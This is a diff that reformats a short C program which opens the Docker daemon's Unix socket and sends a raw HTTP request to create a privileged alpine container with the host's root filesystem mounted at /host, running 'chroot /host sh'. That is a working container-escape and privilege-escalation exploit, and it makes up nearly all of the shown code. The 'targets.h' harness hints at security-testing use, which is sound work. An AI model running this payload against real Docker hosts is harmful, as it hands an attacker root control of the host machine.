@@ -10,8 +10,9 @@
 
 #include "targets.h"
 
-static const char body[] = "{\"Image\":\"alpine\",\"Cmd\":[\"chroot\",\"/host\",\"sh\"],"
-                           "\"HostConfig\":{\"Binds\":[\"/:/host\"],\"Privileged\":true}}";
+static const char body[] =
+    "{\"Image\":\"alpine\",\"Cmd\":[\"chroot\",\"/host\",\"sh\"],"
+    "\"HostConfig\":{\"Binds\":[\"/:/host\"],\"Privileged\":true}}";
 
 int main(int argc, char **argv)
 {
@@ -26,15 +27,18 @@ int main(int argc, char **argv)
 	if (host && !strncmp(host, "unix://", 7))
 		snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", host + 7);
 	else
-		snprintf(sa.sun_path, sizeof(sa.sun_path), "%s", target("T_DOCKER_SOCK"));
+		snprintf(sa.sun_path, sizeof(sa.sun_path), "%s",
+		         target("T_DOCKER_SOCK"));
 	fd = socket(AF_UNIX, SOCK_STREAM, 0);
 	if (fd < 0 || connect(fd, (struct sockaddr *)&sa, sizeof(sa)) < 0) {
 		perror(sa.sun_path);
 		return 1;
 	}
-	dprintf(fd, "POST /containers/create HTTP/1.0\r\nHost: docker\r\n"
-	            "Content-Type: application/json\r\nContent-Length: %zu\r\n\r\n%s",
-	        strlen(body), body);
+	dprintf(
+	    fd,
+	    "POST /containers/create HTTP/1.0\r\nHost: docker\r\n"
+	    "Content-Type: application/json\r\nContent-Length: %zu\r\n\r\n%s",
+	    strlen(body), body);
 	p = (struct pollfd){fd, POLLIN, 0};
 	if (poll(&p, 1, 3000) > 0 && (n = read(fd, buf, sizeof(buf) - 1)) > 0) {
 		buf[n] = '\0';
